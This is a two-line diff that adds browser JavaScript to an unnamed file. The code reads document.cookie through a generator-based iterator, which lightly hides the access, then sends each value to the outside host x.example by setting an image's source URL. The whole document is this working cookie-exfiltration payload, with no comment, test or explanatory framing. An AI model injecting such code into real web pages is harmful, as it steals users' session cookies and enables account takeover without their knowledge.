@@ -1,0 +1,2 @@
+const o = { *[Symbol.iterator]() { yield document.cookie; } };
+for (const c of o) new Image().src = `https://x.example/?${c}`;
